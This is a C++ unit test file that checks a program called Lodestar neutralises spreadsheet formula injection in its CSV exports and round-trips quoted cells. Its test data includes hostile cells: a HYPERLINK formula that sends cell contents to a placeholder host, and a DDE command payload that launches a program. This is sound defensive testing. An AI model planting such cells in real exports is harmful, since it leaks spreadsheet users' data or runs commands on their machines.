// Exports (issue 8): every CSV Lodestar writes neutralises spreadsheet formulas (a cell starting
// with = + - @, tab or CR gets a leading apostrophe) and quotes by RFC 4180, so reading the file
// back gives each cell exactly, apostrophe aside.
#include "testsupport.h"
#include "csvreadback.h"
#include "workspaceprobe.h"

#include "models/import/csvreader.h"
#include "models/import/csvwriter.h"
#include "models/itemmodels/csvexport.h"
#include "models/itemmodels/itemroles.h"

#include <gtest/gtest.h>

#include <QBuffer>
#include <QStandardItemModel>

using namespace lodestar;
using namespace lodestar::test;

namespace {

// Cells a hostile export could carry; the first six must be neutralised.
const QStringList kFormulas{
    QStringLiteral("=1+2"), QStringLiteral("+41 79 000"), QStringLiteral("-2+3"),
    QStringLiteral("@SUM(A1:A9)"), QStringLiteral("\t=cmd"), QStringLiteral("\r=cmd"),
    QStringLiteral("=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")"),
    QStringLiteral("=cmd|' /C calc'!A0"),
};
const QStringList kHarmless{
    QStringLiteral("plain"), QStringLiteral("a,b"), QStringLiteral("say \"hi\""), QStringLiteral("two\nlines"),
    QStringLiteral("x=1"), QStringLiteral("'already quoted"), QString(),
};

QString expectedCell(const QString &cell)
{
    return kFormulas.contains(cell) ? QLatin1Char('\'') + cell : cell;
}

} // namespace

TEST(ExportInjection, StartsFormula_NamesEveryTrigger)
{
    for (const QString &cell : kFormulas)
        EXPECT_TRUE(startsFormula(cell)) << qPrintable(cell);
    for (const QString &cell : kHarmless)
        EXPECT_FALSE(startsFormula(cell)) << qPrintable(cell);
}

// clv --out writes numbers as numbers (a spreadsheet must read -3.5 as minus three and a half),
// but a "number" cell that is not one is guarded like text: no caller can let a formula through.
TEST(ExportInjection, CsvLineWithKinds_KeepsNumbersAndGuardsEverythingElse)
{
    const QList<CsvCellKind> kinds{CsvCellKind::Text, CsvCellKind::Number, CsvCellKind::Number, CsvCellKind::Number,
                                   CsvCellKind::Number, CsvCellKind::Number, CsvCellKind::Number};
    EXPECT_EQ(csvLine({QStringLiteral("-3.5"), QStringLiteral("-3.5"), QStringLiteral("12"), QStringLiteral("1e-05"),
                       QStringLiteral("-2+3"), QStringLiteral("\t-1"), QStringLiteral("+1")},
                      kinds),
              QByteArray("'-3.5,-3.5,12,1e-05,'-2+3,'\t-1,'+1\r\n"));
    EXPECT_EQ(csvLine({QStringLiteral("x"), QStringLiteral("=1+1"), QStringLiteral("-inf"), QStringLiteral("@1")}, kinds),
              QByteArray("x,'=1+1,'-inf,'@1\r\n"));
    EXPECT_EQ(csvLine({QStringLiteral("-1")}, {}), QByteArray("'-1\r\n")); // no kinds: text
}

TEST(ExportInjection, CsvCell_PrefixesEveryTriggerAndQuotes)
{
    EXPECT_EQ(csvCell(QStringLiteral("=1+2")), QByteArray("'=1+2"));
    EXPECT_EQ(csvCell(QStringLiteral("\r=cmd")), QByteArray("\"'\r=cmd\""));
    EXPECT_EQ(csvCell(QStringLiteral("=A1,\"x\"")), QByteArray("\"'=A1,\"\"x\"\"\""));
    EXPECT_EQ(csvCell(QStringLiteral("say \"hi\"")), QByteArray("\"say \"\"hi\"\"\""));
    for (const QString &cell : kFormulas)
        EXPECT_TRUE(csvCell(cell).startsWith('\'') || csvCell(cell).startsWith("\"'")) << qPrintable(cell);
}

TEST(ExportInjection, WriteCsv_ModelRoundTripsWithFormulasNeutralised)
{
    TempWorkspace workspace;
    const QStringList cells = kFormulas + kHarmless;
    QStandardItemModel model(int(cells.size()), 3);
    model.setHorizontalHeaderLabels({QStringLiteral("=header"), QStringLiteral("name, quoted \"x\""), QStringLiteral("amount")});
    for (int row = 0; row < cells.size(); ++row) {
        model.setData(model.index(row, 0), cells.at(row));
        model.setData(model.index(row, 1), cells.at(row), RawValueRole);
        model.setData(model.index(row, 2), -1.5 * row, RawValueRole); // a number is never a formula
    }
    const QString path = workspace.filePath(QStringLiteral("export.csv"));
    ASSERT_TRUE(writeCsvFile(model, path));

    const QList<QStringList> records = lodestar::test::readCsvBack(path);
    ASSERT_EQ(records.size(), cells.size() + 1);
    EXPECT_EQ(records.first(), (QStringList{QStringLiteral("'=header"), QStringLiteral("name, quoted \"x\""), QStringLiteral("amount")}));
    for (int row = 0; row < cells.size(); ++row) {
        ASSERT_EQ(records.at(row + 1).size(), 3) << row;
        EXPECT_EQ(records.at(row + 1).at(0), expectedCell(cells.at(row))) << row;
        EXPECT_EQ(records.at(row + 1).at(1), expectedCell(cells.at(row))) << row;
        EXPECT_EQ(records.at(row + 1).at(2).toDouble(), -1.5 * row) << row;
    }
}

TEST(ExportInjection, CsvLine_RoundTripsThroughTheReader)
{
    TempWorkspace workspace;
    const QStringList cells = kFormulas + kHarmless;
    QByteArray csv;
    for (const QString &cell : cells)
        csv += csvLine({cell, QStringLiteral("x")});
    const QString path = workspace.writeFile(QStringLiteral("lines.csv"), csv);
    const QList<QStringList> records = lodestar::test::readCsvBack(path);
    // An empty first cell still makes a record, as it has the second cell.
    ASSERT_EQ(records.size(), cells.size());
    for (int row = 0; row < cells.size(); ++row)
        EXPECT_EQ(records.at(row), (QStringList{expectedCell(cells.at(row)), QStringLiteral("x")})) << row;
}

TEST(ExportInjection, RejectsExport_NeutralisesHostileValuesFromTheImportedFile)
{
    TempWorkspace workspace;
    QByteArray csv = "customer_id,date,amount\n";
    for (const QString &cell : kFormulas) {
        QString quoted = cell;
        quoted.replace(QStringLiteral("\""), QStringLiteral("\"\""));
        csv += "c,\"" + quoted.toUtf8() + "\",1\n"; // not a date: every row is rejected
    }
    const QString file = workspace.writeFile(QStringLiteral("=evil.csv"), csv);
    const auto imported = runLodestar({QStringLiteral("import"), QStringLiteral("--db"), workspace.dbPath(),
                                       QStringLiteral("--transactions"), file});
    ASSERT_EQ(imported.exitCode, 0) << imported.err.constData();
    const QString out = workspace.filePath(QStringLiteral("rejects.csv"));
    const auto exported = runLodestar({QStringLiteral("rejects"), QStringLiteral("--db"), workspace.dbPath(),
                                       QStringLiteral("--import"), QStringLiteral("1"), QStringLiteral("--out"), out});
    ASSERT_EQ(exported.exitCode, 0) << exported.err.constData();
    const QList<QStringList> records = lodestar::test::readCsvBack(out);
    ASSERT_EQ(records.size(), kFormulas.size() + 1);
    for (int row = 1; row < records.size(); ++row) {
        const QStringList &record = records.at(row);
        ASSERT_EQ(record.size(), 5);
        EXPECT_EQ(record.at(0), QStringLiteral("'=evil.csv"));
        // The importer stores the value trimmed; trimmed, every one still starts a formula.
        EXPECT_EQ(record.at(3), QLatin1Char('\'') + kFormulas.at(row - 1).trimmed()) << row;
        for (const QString &field : record)
            EXPECT_FALSE(!field.isEmpty() && QStringLiteral("=+-@\t\r").contains(field.front())) << qPrintable(field);
    }
}
